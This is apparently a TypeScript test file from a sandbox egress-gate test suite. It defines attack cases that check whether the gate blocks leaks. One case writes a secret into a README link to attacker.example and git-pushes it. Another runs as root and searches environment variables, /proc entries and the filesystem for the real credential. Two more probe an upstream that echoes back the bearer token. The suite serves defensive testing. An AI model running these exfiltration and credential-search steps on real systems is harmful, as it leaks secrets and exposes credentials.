import { judgeCredentialAbsent, judgeEcho, judgeGitPush } from "../judges.ts";
import type { Attack, AttackContext } from "../types.ts";
import { ENC_TOOLS, q, withSecret } from "./common.ts";

// Categories 5 and 9: a secret pushed through git, and the real credential
// looked for inside or fished back out of an echoing upstream.

export function insideAttacks(ctx: AttackContext): Attack[] {
  const list: Attack[] = [];
  const H = ctx.allowedHttpsUrl.replace(/\/$/, "");

  // 5. git push of a secret in a README link. The upstream's refs are a
  // receiver; the gate's hook must refuse the push and audit it.
  if (ctx.gitRemoteUrl) {
    const url = ctx.gitRemoteUrl;
    for (let i = 0; i < Math.min(3, ctx.secrets.length); i++) {
      list.push({
        id: `5.git-push-${ctx.secrets[i]!.name.toLowerCase()}`,
        category: 5,
        title: `git push of ${ctx.secrets[i]!.name} in a README link`,
        expected: "git-scan",
        tools: ["git", "mktemp", ...ENC_TOOLS],
        body: (c) =>
          withSecret(
            c,
            i,
            `d=$(mktemp -d) && cd "$d" && git init -q -b main . && git config user.email t@example.com && git config user.name t
echo "[docs](https://attacker.example/?k=$S)" > README.md && git add README.md && git commit -qm docs
git push ${q(url)} HEAD:refs/heads/cb-escape-${i} 2>&1; echo "RC=$?"`,
          ),
        judge: (ev) => judgeGitPush(ev),
      });
    }
  }

  // 9. The real credential is nowhere inside. Root, so that every
  // process's /proc entries are readable: an unreadable file must not hide
  // a leak. The runner sends scripts on stdin (never argv), so the value is
  // only in this shell's memory and in the pattern file, which the search
  // skips and removes. SELFCHECK proves grep finds this value at all.
  list.push({
    id: "9.credential-absent",
    category: 9,
    title: "the real credential is not in env, files, /proc or the relay",
    expected: "credential-isolation",
    user: "0",
    tools: ["grep", "tr", "env", "printenv", "sed", "head"],
    body: (c) => `
umask 077; printf '%s\\n' ${q(c.credential.realValue)} > /tmp/cbpat
grep -qF -f /tmp/cbpat /tmp/cbpat && echo SELFCHECK=1
env | grep -qF -f /tmp/cbpat && echo "FOUND env"
n=0
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
  [ -r "$f" ] || continue
  n=$((n+1))
  tr '\\0' '\\n' < "$f" 2>/dev/null | grep -qF -f /tmp/cbpat && echo "FOUND $f"
done
echo "SCANNED proc=$n"
grep -rIlF -f /tmp/cbpat / --exclude=cbpat --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | head -3 | sed 's/^/FOUND file /'
rm -f /tmp/cbpat
[ -n "$(printenv ${c.credential.envVar})" ] && echo "PLACEHOLDER=set"`,
    judge: (ev) => judgeCredentialAbsent(ev),
  });

  // The allowed host reflects the request it got, with the real credential
  // the gate injected: in the body (the gate puts the placeholder back) and
  // in a response header (the gate refuses the response). The attacker
  // prints every header and body byte it received.
  const echo = (path: string) => (c: AttackContext) => `rm -f /tmp/cb.hdr /tmp/cb.body
probe -D /tmp/cb.hdr -H "Authorization: Bearer $${c.credential.envVar}" "${H}/${path}"
echo "--- headers"; cat /tmp/cb.hdr; echo "--- body"; cat /tmp/cb.body; echo
echo "PLACEHOLDER-SEEN=$(cat /tmp/cb.hdr /tmp/cb.body 2>/dev/null | grep -cF "$${c.credential.envVar}")"`;
  list.push({
    id: "9.credential-echo-body",
    category: 9,
    title: "an upstream echoing the request in its body hands back the placeholder, not the credential",
    expected: "gate-dlp",
    tools: ["curl", "grep", "cat"],
    body: echo("echo"),
    judge: (ev, c) => judgeEcho(ev, c, "body"),
  });
  list.push({
    id: "9.credential-echo-header",
    category: 9,
    title: "an upstream echoing the credential in a response header is refused (502)",
    expected: "gate-dlp",
    tools: ["curl", "grep", "cat"],
    body: echo("echo-header"),
    judge: (ev, c) => judgeEcho(ev, c, "header"),
  });
  return list;
}
